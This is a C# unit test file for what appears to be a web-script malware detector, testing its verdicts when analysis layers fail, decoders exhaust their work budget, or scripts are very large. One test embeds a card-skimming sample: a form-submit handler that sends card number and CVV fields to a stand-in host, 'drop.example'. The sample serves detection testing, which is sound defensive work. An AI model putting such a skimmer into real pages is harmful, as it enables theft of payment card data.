using System.Text;
using PageShield.Detection;
using PageShield.Detection.Examination;
using PageShield.Detection.Layers;
using PageShield.Inventory;
using PageShield.Inventory.Scripts;

namespace PageShield.Tests.Detection;

/// <summary>What a judgement says, and costs, when a script is large or made to exhaust the analysis.</summary>
public sealed class JudgementLimitsTests
{
    [Fact]
    public void A_layer_that_fails_leaves_the_verdict_unknown_and_says_so()
    {
        var judge = new ScriptJudge([new StaticLayer(), new FailingLayer()]);

        var judgement = judge.Judge(new ScriptInput { Source = "var a = 1;" });

        Assert.Equal(VerdictKind.Unknown, judgement.Verdict);
        Assert.Contains(judgement.Findings, finding => finding is { Rule: "analysis-incomplete", Severity: Severity.Info, Weight: 0 });
        Assert.Equal(judge.Judge(new ScriptInput { Source = "" }).AnalyzerVersion, judgement.AnalyzerVersion);
    }

    [Fact]
    public void A_layer_that_fails_does_not_hide_what_another_found()
    {
        const string Source = "document.forms[0].onsubmit = function () { fetch('https://drop.example/x.gif', { method: 'POST', body: document.querySelector('#card_number').value + document.querySelector('[name=cvv]').value }); };";

        var judgement = new ScriptJudge([new FailingLayer(), new StaticLayer()]).Judge(new ScriptInput { Source = Source });

        Assert.Equal(VerdictKind.Malicious, judgement.Verdict);
    }

    [Fact]
    public void A_decoder_that_uses_up_its_work_leaves_the_verdict_unknown()
    {
        var source = new StringBuilder("function d(x) { var s = ''; for (var i = 0; ; i++) { s = String.fromCharCode(i % 90); } return s; }\n");
        for (var index = 0; index < 40; index++)
            source.Append("function d").Append(index).Append("(x) { return d(x + ").Append(index).Append("); }\nwindow.v").Append(index)
                .Append(" = d").Append(index).Append("('a') + d('").Append(index).Append("');\n");

        var judgement = new ScriptJudge().Judge(new ScriptInput { Source = source.ToString() });

        Assert.Equal(VerdictKind.Unknown, judgement.Verdict);
        Assert.Contains(judgement.Findings, finding => finding.Rule == "analysis-incomplete");
    }

    [Fact]
    public void Small_functions_that_call_each_other_do_not_multiply_the_work()
    {
        var source = new StringBuilder("function f0(x) { return x; }\n");
        for (var index = 1; index <= 30; index++)
        {
            source.Append("function f").Append(index).Append("(x) { return ").AppendJoin(" + ", Enumerable.Repeat($"f{index - 1}(x)", 20))
                .Append("; }\n");
        }

        var judgement = new ScriptJudge().Judge(new ScriptInput { Source = source + "f30(document.title);" });

        Assert.Equal((VerdictKind.Clean, 99), (judgement.Verdict, judgement.Score));
    }

    [Fact]
    public void An_ordinary_script_is_examined_completely_however_long_it_is()
    {
        var source = new StringBuilder("(function () { var app = {};\n");
        for (var index = 0; index < 6_000; index++)
        {
            source.Append("app.m").Append(index).Append(" = function (a, b) { var c = { k: a, n: ").Append(index)
                .Append(" }; app.run(c, app, b, 'module-").Append(index).Append("'); return c; };\n");
        }

        var judgement = new ScriptJudge()
            .Judge(new ScriptInput { Source = source + "app.run = function (c) { return c.k; }; window.app = app; })();" });

        Assert.Equal((VerdictKind.Clean, 99), (judgement.Verdict, judgement.Score));
    }

    private sealed class FailingLayer : IDetectionLayer
    {
        public LayerOpinion Examine(ExaminedScript script) =>
            script.Script.Source.Length == 0 ? new LayerOpinion("failing", "1", []) : throw new InvalidOperationException("It fails.");
    }
}
